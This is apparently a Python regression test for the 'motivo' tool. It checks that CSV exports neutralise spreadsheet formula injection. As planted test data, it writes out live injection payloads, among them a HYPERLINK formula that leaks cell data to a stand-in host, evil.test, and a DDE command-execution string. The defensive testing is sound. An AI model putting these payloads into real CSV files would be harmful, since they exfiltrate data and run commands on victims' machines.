#!/usr/bin/env python3
"""Issue 20, item 8: no CSV motivo writes carries a cell a spreadsheet would run as a formula.

The demo export with notes and a message beginning with =, +, -, @ and a tab, imported; then every cell of the
anonymised export's three CSV files and of `report --csv` is read back: none may begin with =, +, -, @, a tab or
a CR unless it is a plain number, and the planted ones are there with an apostrophe before them.
Usage: csv_injection.py MOTIVO SOURCE_DIR"""
import csv
import io
import os
import re
import sys
import zipfile

from checks import Checks, Motivo, gen_export, workdir

check = Checks()
work = workdir("csv-injection")
motivo = Motivo(sys.argv[1], work, db=os.path.join(work, "m.db"), now="2026-11-20T18:00:00Z")
export = gen_export(sys.argv[2], os.path.join(work, "export"))
planted = ['=HYPERLINK("http://evil.test/?leak="&A1,"Open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
           "\t=1+1"]
with open(os.path.join(export, "Invitations.csv"), "a", encoding="utf-8", newline="") as f:
    w = csv.writer(f, lineterminator="\n")
    for i, note in enumerate(planted):
        w.writerow([f"Mallory Evil{i}", "Lucía Fernández Ortega", f"11/1{i}/26, 9:00 AM", note, "INCOMING", "", ""])
motivo("import", "--quiet", export)

numeric = re.compile(r"^[+-]?\d+(\.\d+)?$")


def dangerous(cells):
    return [c for c in cells if c and c[0] in "=+-@\t\r" and not numeric.match(c) and c not in ("-", "+")]


anonymised = os.path.join(work, "anon.zip")
motivo("export", "--anonymize", anonymised)
cells = []
with zipfile.ZipFile(anonymised) as z:
    for name in z.namelist():
        for row in csv.reader(io.StringIO(z.read(name).decode("utf-8"), newline="")):
            cells += row
check(len(cells) > 100, f"the anonymised export read back ({len(cells)} cells)")
check(not dangerous(cells), f"no formula-like cell in the anonymised export ({dangerous(cells)[:3]})")
for note in planted:
    # The anonymiser masks the link inside a note (issue 20, item 7): up to its scheme the cell is as planted.
    head = "'" + note[:note.index("://") + 3] if "://" in note else None
    check("'" + note in cells or (head and any(c.startswith(head) for c in cells)),
          f"the planted {note[:12]!r} is there, neutralised")

report = motivo("report", "--by", "month", "--csv").stdout
rows = list(csv.reader(io.StringIO(report, newline="")))
check(rows and rows[0][0] == "period" and len(rows) > 1, "report --csv")
check(not dangerous([c for r in rows for c in r]), "no formula-like cell in report --csv")

check.exit()
